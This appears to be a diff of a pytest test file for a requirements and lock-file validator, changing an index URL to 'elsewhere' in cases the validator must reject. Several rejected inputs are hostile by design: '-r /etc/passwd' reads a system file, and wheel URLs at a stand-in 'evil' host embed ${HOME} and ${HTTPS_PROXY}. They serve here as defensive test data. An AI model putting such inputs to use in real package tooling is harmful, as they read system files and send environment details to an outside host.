@@ -104,7 +104,7 @@ def test_a_password_of_the_index_is_masked_in_whatever_uv_says(tmp_path: Path) -
     [
         ("-e x", errors.REQUIREMENTS_MALFORMED, "editable"),
         ("--editable=x", errors.REQUIREMENTS_MALFORMED, "editable"),
-        ("--index-url https://index.example/simple", errors.REQUIREMENTS_MALFORMED, "options"),
+        ("--index-url elsewhere", errors.REQUIREMENTS_MALFORMED, "options"),
         ("-r other.txt", errors.REQUIREMENTS_MALFORMED, "options"),
         ("./dir", errors.REQUIREMENTS_MALFORMED, "path"),
         ("/abs/dir", errors.REQUIREMENTS_MALFORMED, "path"),
@@ -113,7 +113,7 @@ def test_a_password_of_the_index_is_masked_in_whatever_uv_says(tmp_path: Path) -
         ("six # why", errors.REQUIREMENTS_MALFORMED, "six # why"),
         ("", errors.REQUIREMENTS_MALFORMED, "''"),
         ("foo bar", errors.REQUIREMENTS_MALFORMED, "foo bar"),
-        ("six\n--index-url https://index.example/simple", errors.REQUIREMENTS_MALFORMED, "line break"),
+        ("six\n--index-url elsewhere", errors.REQUIREMENTS_MALFORMED, "line break"),
         ("six\n", errors.REQUIREMENTS_MALFORMED, "line break"),
         ("six\u2028-e x", errors.REQUIREMENTS_MALFORMED, "line break"),
         ("x @ https://evil/${HTTPS_PROXY}/x.whl", errors.REQUIREMENTS_MALFORMED, "variables"),
@@ -149,8 +149,8 @@ def test_plain_requirements_pass() -> None:
 @pytest.mark.parametrize(
     "lock_text",
     [
-        "--index-url https://index.example/simple\nidna==3.20 --hash=sha256:00",
-        "idna==3.20 \\\n    --hash=sha256:00\n  --extra-index-url https://index.example/simple",
+        "--index-url elsewhere\nidna==3.20 --hash=sha256:00",
+        "idna==3.20 \\\n    --hash=sha256:00\n  --extra-index-url elsewhere",
         "-r /etc/passwd",
         "-e .",
         "x @ https://evil/${HOME}/x.whl --hash=sha256:00",
